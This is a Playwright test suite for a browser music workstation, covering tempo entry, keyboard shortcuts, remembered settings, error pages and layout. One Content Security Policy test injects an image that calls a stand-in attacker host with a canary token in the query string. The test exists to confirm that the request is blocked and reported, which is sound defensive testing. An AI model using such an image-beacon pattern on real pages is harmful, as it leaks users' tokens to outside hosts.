/** The frame of the workstation: tempo, keyboard, gate, what the device remembers, addresses that do not exist. */
import type { Page } from 'playwright/test';
import { deviceOf, dismissTour, expect, holdBack, LANGUAGES, open, prefer, tabTo, test } from './fixtures.ts';
import { share } from './shares.ts';
import { called } from './words.ts';

const bpmOf = (page: Page) => page.getByRole('textbox', { name: 'BPM' });

test.describe('tempo', () => {
  test('whole numbers from 60 to 200 hold, on Enter or when the field is left; others give way', async ({ page }) => {
    await open(page);
    const bpm = bpmOf(page);
    await expect(bpm).toHaveValue('128');
    await bpm.fill('95');
    await bpm.press('Enter');
    await expect(bpm).toHaveValue('95');
    for (const refused of ['59', '201', '9', '99.5', '1e2', 'abc', '']) {
      await bpm.fill(refused);
      await bpm.press('Enter');
      await expect(bpm, `typed "${refused}"`).toHaveValue('95');
    }
    await bpm.selectText();
    await page.keyboard.type('127.5');
    await bpm.press('Enter');
    await expect(bpm).toHaveValue('95');
    const told = page.getByRole('status').filter({ hasText: 'Tempo stays at 95 BPM' });
    await expect(told).toContainText('“127.5” is not a whole number from 60 to 200.');
    await bpm.fill('200');
    await bpm.blur();
    await expect(bpm).toHaveValue('200');
    await page.keyboard.press('Control+z');
    await expect(bpm).toHaveValue('95');
  });

  test('minus and plus: a click is one, holding goes on and is one undo', async ({ page }) => {
    await page.clock.install();
    await open(page);
    const bpm = bpmOf(page);
    const faster = page.getByRole('button', { name: 'Faster' });
    await faster.click();
    await expect(bpm).toHaveValue('129');
    await faster.hover();
    await page.mouse.down();
    await page.clock.runFor(2000);
    await page.mouse.up();
    expect(Number(await bpm.inputValue())).toBeGreaterThan(140);
    await page.getByRole('button', { name: 'Undo' }).click();
    await expect(bpm).toHaveValue('129');
  });

  test('tapped on the keyboard', async ({ page }) => {
    await open(page);
    // The events' own times count; a script gives them, so that no machine is too slow for it.
    await page.evaluate(() => {
      for (const time of [0, 500, 1000, 1500]) {
        const event = new KeyboardEvent('keydown', { key: 't', code: 'KeyT', bubbles: true });
        Object.defineProperty(event, 'timeStamp', { value: 10_000 + time });
        document.body.dispatchEvent(event);
      }
    });
    await expect(bpmOf(page)).toHaveValue('120');
  });
});

test.describe('keyboard', () => {
  test('Space plays and pauses, Escape stops, a field keeps its keys', async ({ page }) => {
    await open(page);
    await page.keyboard.press('Space');
    await expect(page.getByRole('button', { name: 'Pause', exact: true })).toBeVisible();
    const elapsed = page.locator('.pos > span');
    await expect(elapsed).not.toHaveText('00:00.0');
    await page.keyboard.press('Space');
    await expect(page.getByRole('button', { name: 'Play', exact: true })).toBeVisible();
    await expect(elapsed).not.toHaveText('00:00.0');
    await page.keyboard.press('Space');
    await page.keyboard.press('Escape');
    await expect(page.getByRole('button', { name: 'Play', exact: true })).toBeVisible();
    await expect(page.locator('.pos > b')).toHaveText('01.1.1');
    await expect(elapsed).toHaveText('00:00.0');
    await bpmOf(page).focus();
    await page.keyboard.press('Space');
    await expect(page.getByRole('button', { name: 'Play', exact: true })).toBeVisible();
  });

  test('after a click on a key, Space plays; a key reached by keys is pressed', async ({ page }) => {
    await open(page);
    await page.getByRole('button', { name: 'Stop', exact: true }).click();
    await page.keyboard.press('Space');
    await expect(page.getByRole('button', { name: 'Pause', exact: true })).toBeVisible();
    await page.getByRole('button', { name: 'Pause', exact: true }).focus();
    await tabTo(page, 'Stop');
    await page.keyboard.press('Space');
    await expect(page.getByRole('button', { name: 'Play', exact: true })).toBeVisible();
  });

  test('? shows every shortcut, the focus stays within and goes back', async ({ page }) => {
    await open(page);
    const menu = page.getByRole('button', { name: 'Batida menu', exact: true });
    await menu.focus();
    await page.keyboard.press('?');
    const sheet = page.getByRole('dialog', { name: 'Keyboard shortcuts' });
    await expect(sheet).toBeVisible();
    await expect(sheet).toContainText('Tap the tempo');
    await page.keyboard.press('Space');
    await page.keyboard.press('Tab');
    await page.keyboard.press('Tab');
    expect(await sheet.evaluate((dialog) => dialog.contains(document.activeElement))).toBe(true);
    await page.keyboard.press('Escape');
    await expect(sheet).toBeHidden();
    await expect(menu).toBeFocused();
    await expect(page.getByRole('button', { name: 'Play', exact: true })).toBeVisible();
  });
});

test.describe('what the device remembers', () => {
  test('theme and language survive a reload, and count in every tab', async ({ page, context }) => {
    const other = await context.newPage();
    await other.addInitScript(dismissTour);
    await open(other);
    await open(page);
    await page.getByRole('button', { name: 'Setup', exact: true }).click();
    const choice = page.getByRole('main').locator('select', { hasText: 'Français' });
    // The other tab listens once it has nothing else to do.
    await expect(async () => {
      await choice.selectOption('en');
      await choice.selectOption('fr');
      await expect(other.locator('html')).toHaveAttribute('lang', 'fr', { timeout: 500 });
    }).toPass();
    await page.getByRole('radio', { name: called('fr', 'Dark') }).click();
    for (const tab of [page, other]) await expect(tab.locator('html')).toHaveAttribute('data-theme', 'studio');
    await expect(page.locator('html')).toHaveAttribute('lang', 'fr');
    await page.reload();
    await expect(page.locator('html')).toHaveAttribute('data-theme', 'studio');
    await expect(page.locator('html')).toHaveAttribute('lang', 'fr');
  });

  test('a browser that keeps nothing works all the same', async ({ page }) => {
    await page.addInitScript(() => {
      Object.defineProperty(window, 'localStorage', {
        get: () => {
          throw new DOMException('denied', 'SecurityError');
        },
      });
    });
    await open(page);
    await page.getByRole('button', { name: 'Setup', exact: true }).click();
    await page.getByRole('radio', { name: 'Dark' }).click();
    await expect(page.locator('html')).toHaveAttribute('data-theme', 'studio');
  });

  test('reset, and taken back', async ({ page }) => {
    await open(page);
    await page.getByRole('button', { name: 'Setup', exact: true }).click();
    const metronome = page.getByRole('switch', { name: 'Metronome' });
    await metronome.click();
    await page.getByRole('button', { name: 'Reset settings' }).click();
    await expect(metronome).not.toBeChecked();
    await page.getByRole('status').getByRole('button', { name: 'Undo' }).click();
    await expect(metronome).toBeChecked();
  });
});

test.describe('an address that is none of ours', () => {
  test.use({ allowed: [/404/] });

  test('says so, and leads back', async ({ page }) => {
    await page.goto('/no/such/page');
    await expect(page).toHaveTitle('404 Page Not Found');
    await expect(page.getByRole('heading', { level: 1 })).toHaveText('404 Page Not Found');
    await page.getByRole('link', { name: 'To the studio', exact: true }).click();
    await expect(page.getByRole('button', { name: 'Play', exact: true })).toBeVisible();
  });
});

test.describe('what the policy of the page forbids', () => {
  test.use({ allowed: [/Content Security Policy/] });

  test('does not load, and is reported', async ({ page }) => {
    await open(page);
    const reported = page.waitForRequest('**/api/reports');
    await page.evaluate(() => {
      const image = document.createElement('img');
      image.src = 'https://evil.example/x.png?token=canary';
      document.body.append(image);
    });
    const report = await reported;
    expect(report.postDataJSON()['csp-report']).toMatchObject({ 'effective-directive': 'img-src' });
    expect((await report.response())?.status()).toBe(204);
  });
});

test.describe('a view that cannot be fetched', () => {
  test.use({ allowed: [/ERR_FAILED/] });

  test('gives way to the one that is there, says so, and comes when it is asked for again', async ({ page }) => {
    const code = /\/assets\/session-[^/]+\.js$/;
    await page.route(code, (route) => route.abort());
    await page.goto('/');
    const tab = (name: string) => page.locator('.tabs').getByRole('button', { name, exact: true });
    await tab('Session').click();
    await expect(page.locator('.toasts').getByRole('alert')).toContainText('This panel could not be loaded');
    await expect(tab('Arrange')).toHaveAttribute('aria-current', 'page');
    await expect(page.getByRole('button', { name: 'Play', exact: true })).toBeVisible();
    await page.unroute(code);
    await page.getByRole('alert').getByRole('button', { name: 'Retry' }).click();
    await expect(page.getByRole('button', { name: 'Stop all' })).toBeVisible();
  });
});

test.describe('magazine and help', () => {
  test.use(deviceOf('desktop'));

  test('are in the bar and the foot of a desk, and open beside while music plays', async ({ page }) => {
    await open(page);
    const help = page.locator('.bar').getByRole('link', { name: 'Help and questions' });
    await expect(help).toHaveAttribute('href', '/help');
    await expect(help).not.toHaveAttribute('target', /./);
    await expect(page.locator('footer').getByRole('link', { name: 'Magazine' })).toHaveAttribute('href', '/blog');
    await page.getByRole('button', { name: 'Play', exact: true }).click();
    await expect(help).toHaveAttribute('target', '_blank');
    const [beside] = await Promise.all([page.waitForEvent('popup'), help.click()]);
    await expect(beside.getByRole('heading', { level: 1 })).toHaveText('Help');
    await beside.close();
    await expect(page.getByRole('button', { name: 'Pause', exact: true })).toBeVisible();
    await page.getByRole('button', { name: 'Pause', exact: true }).click();
    await expect(help).not.toHaveAttribute('target', /./);
  });

  test('are in the bar of the pages beside it', async ({ page }) => {
    for (const path of ['/login', '/profile']) {
      await page.goto(path);
      const site = page.getByRole('navigation', { name: 'Site' });
      await expect(site.getByRole('link', { name: 'Magazine' }), path).toHaveAttribute('href', '/blog');
      await site.getByRole('link', { name: 'Help and questions' }).click();
      await expect(page.getByRole('heading', { level: 1 }), path).toHaveText('Help');
    }
  });
});

test.describe('a server that answers late', () => {
  test.use(deviceOf('tablet'));

  for (const language of share(LANGUAGES, ['de', 'ja'])) {
    test(`moves no key away under the finger, ${language}`, async ({ page }) => {
      await prefer(page, language);
      const answer = await holdBack(page, '**/api/auth/me');
      await open(page);
      const undo = page.locator('.bar .undo').first();
      const before = await undo.boundingBox();
      await expect(page.locator('.account-login')).toHaveCount(0);
      answer();
      await expect(page.locator('.account-login')).toBeVisible();
      const after = await undo.boundingBox();
      // Other systems have other letters: a key may give way by less than half of itself.
      expect(Math.abs((after?.x ?? 0) - (before?.x ?? 0))).toBeLessThan(20);
    });
  }
});

test.describe('a view that is opened', () => {
  test.use(deviceOf('tablet'));

  test('has its rack where it stays', async ({ page }) => {
    await open(page);
    const tools = page.getByRole('toolbar', { name: 'Pattern' });
    await expect(tools).toBeVisible();
    await page.getByRole('button', { name: 'Session', exact: true }).click();
    await expect(page.getByRole('button', { name: 'Stop all' })).toBeVisible();
    const moves = await page.evaluate(async () => {
      const seen: number[] = [];
      const isThere = () => document.querySelector('.tools .key') !== null;
      document.querySelector<HTMLElement>('nav.tabs button')?.click();
      for (let frame = 0; frame < 600 && (!isThere() || seen.length < 2); frame++) {
        await new Promise((resolve) => requestAnimationFrame(resolve));
        const rack = document.querySelector('.rack');
        if (rack) seen.push(Math.round(rack.getBoundingClientRect().top));
      }
      return seen;
    });
    expect(moves.length).toBeGreaterThan(1);
    expect(new Set(moves).size).toBe(1);
  });
});
